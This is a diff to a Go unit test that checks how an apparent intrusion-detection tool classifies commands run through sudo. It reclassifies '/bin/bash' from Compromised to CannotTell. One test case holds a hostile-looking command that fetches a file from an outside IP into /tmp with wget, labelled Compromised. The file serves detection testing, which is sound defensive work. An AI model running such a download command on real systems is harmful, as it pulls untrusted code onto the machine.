@@ -25,7 +25,7 @@ func TestMistyped(t *testing.T) {
 	for _, tc := range []struct {
 		runs, status string
 	}{
-		{"/usr/bin/systemctl restart apache2", string(CannotTell)}, {"/bin/bash", Compromised}, {"/usr/bin/wget http://203.0.113.9/x -O /tmp/x", Compromised},
+		{"/usr/bin/systemctl restart apache2", string(CannotTell)}, {"/bin/bash", string(CannotTell)}, {"/usr/bin/wget http://203.0.113.9/x -O /tmp/x", Compromised},
 	} {
 		s := Build(t.Context(), []detect.Finding{typed, with(sudo("amy", "03:01:00"), func(f *detect.Finding) { f.Runs = tc.runs })}, full())
 		check(t, &s)
